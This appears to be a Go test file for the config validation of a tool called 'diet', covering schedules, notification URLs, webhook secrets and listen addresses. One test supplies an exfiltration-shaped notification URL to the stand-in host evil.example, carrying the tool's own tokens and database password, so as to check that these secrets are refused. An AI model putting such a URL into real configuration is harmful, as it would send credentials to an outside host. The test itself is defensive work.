package main

import (
	"strings"
	"testing"

	"github.com/diet-project/diet/engine/config"
	"github.com/diet-project/diet/engine/serve/metric"
)

// TestNotificationsSendNoToken fills the environment into an address of notifications, but for
// what diet logs in with.
func TestNotificationsSendNoToken(t *testing.T) {
	for _, name := range []string{"NETBOX_TOKEN", "DIET_STORE", "PGPASSWORD", "SLACK_HOOK"} {
		t.Setenv(name, "s3cret")
		got, err := fromEnv("generic://evil.example/?x=${" + name + "}")
		if own := name != "SLACK_HOOK"; (err != nil) != own || strings.Contains(got, "s3cret") == own {
			t.Errorf("%s: %q, %v", name, got, err)
		}
	}
}

// TestWrongSettings says of each setting of diet serve that is wrong where it stands, and what to
// write in its place.
func TestWrongSettings(t *testing.T) {
	t.Setenv("EMPTY", "")
	for _, tt := range []struct{ text, want string }{
		{"schedules: [{check: \"61 * * * *\"}]", `diet.yaml:1:14: schedules[0].check: "61 * * * *": end of range`},
		{"schedules: [{check: \"@every 1ms\"}]", `diet.yaml:1:14: schedules[0].check: "@every 1ms" is more often than every 10s`},
		{"schedules:\n- {apply: 0 3 31 2 *}", `diet.yaml:2:4: schedules[0].apply: "0 3 31 2 *": that day never comes`},
		{"schedules: [{plans: [a]}]", `diet.yaml:1:13: schedules[0]: no time is given`},
		{"notifications: [{name: a, urls: [\"slack://${NOPE}\"]}]", `notifications[0].urls[0]: the environment has no NOPE: set NOPE`},
		{"notifications: [{name: a, urls: [\"bogus://x\"]}]", `diet.yaml:1:34: notifications[0].urls[0]: this is no address of shoutrrr`},
		{"notifications: [{name: a, urls: [logger://], on: [x]}]", `diet.yaml:1:51: notifications[0].on[0]: "x" is none of`},
		{
			"notifications: [{name: a, urls: [logger://], thresholds: [{kind: devce, count: 1}]}]",
			`notifications[0].thresholds[0]: there is no kind "devce": did you mean`,
		},
		{
			"notifications: [{name: a, urls: [logger://], thresholds: [{field: seriel, count: 1}]}]",
			`no kind has a field "seriel": did you mean serial`,
		},
		{
			"notifications: [{name: a, urls: [logger://], thresholds: [{kind: device}]}]",
			`notifications[0].thresholds[0]: a threshold wants count or percent`,
		},
		{
			"notifications: [{name: a, urls: [logger://]}, {name: a, urls: [logger://]}]",
			`diet.yaml:1:48: notifications[1].name: two notifications are called "a"`,
		},
		{"serve: {url: diet.example.com}", `diet.yaml:1:9: serve.url: "diet.example.com" is no address of pages: write it as https://`},
		{
			"serve: {hooks: {netbox: short}}",
			`diet.yaml:1:17: serve.hooks.netbox: the secret of a webhook has 16 characters at least, and this one has 5`,
		},
		{"serve: {hooks: {git: \"${EMPTY}\"}}", `serve.hooks.git: EMPTY is empty in the environment: set EMPTY for diet, or take ${EMPTY} out`},
		{"serve: {hooks: {git: \"${NETBOX_TOKEN}\"}}", `serve.hooks.git: NETBOX_TOKEN is diet's own`},
	} {
		cfg, err := config.Read("diet.yaml", []byte(tt.text))
		if err != nil {
			t.Fatalf("%s: %v", tt.text, err)
		}
		s := &service{env: &env{config: cfg}, metrics: metric.New("")}
		if _, err := s.jobSettings(); err == nil || !strings.Contains(err.Error(), tt.want) || strings.Contains(err.Error(), "short") {
			t.Errorf("%s\ngot  %v\nwant %s", tt.text, err, tt.want)
		}
	}
}

// TestEmptySecret refuses secrets that are stated and empty: they would be taken for none.
func TestEmptySecret(t *testing.T) {
	for text, want := range map[string]string{
		`serve: {hooks: {netbox: ""}}`: "diet.yaml:1:25: serve.hooks.netbox: it is empty",
		`serve: {hooks: {git: ""}}`:    "diet.yaml:1:22: serve.hooks.git: it is empty",
		`serve: {oidc: {issuer: "https://id", client_id: diet, client_secret: "", roles: {a: [viewer]}}}`: "client_secret: it is empty",
		`sources: [{name: a, url: "https://git/a.git", token: ""}]`:                                       "sources[0].token: it is empty",
	} {
		if _, err := config.Read("diet.yaml", []byte(text)); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: got %v, want %s", text, err, want)
		}
	}
}

// TestWrongAddress says of what is no address to listen on that it is none.
func TestWrongAddress(t *testing.T) {
	for address, right := range map[string]bool{
		"127.0.0.1:0": true, ":8080": true, "[::1]:80": true, "localhost:http": true, "0.0.0.0:65535": true, "host-1:1": true,
		"nope": false, "999:1": false, "1.2.3:80": false, "127.0.0.1:70000": false, "127.0.0.1:x": false,
	} {
		if err := isAddress(address); (err == nil) != right || err != nil && !strings.Contains(err.Error(), "want") {
			t.Errorf("%s: %v", address, err)
		}
	}
}
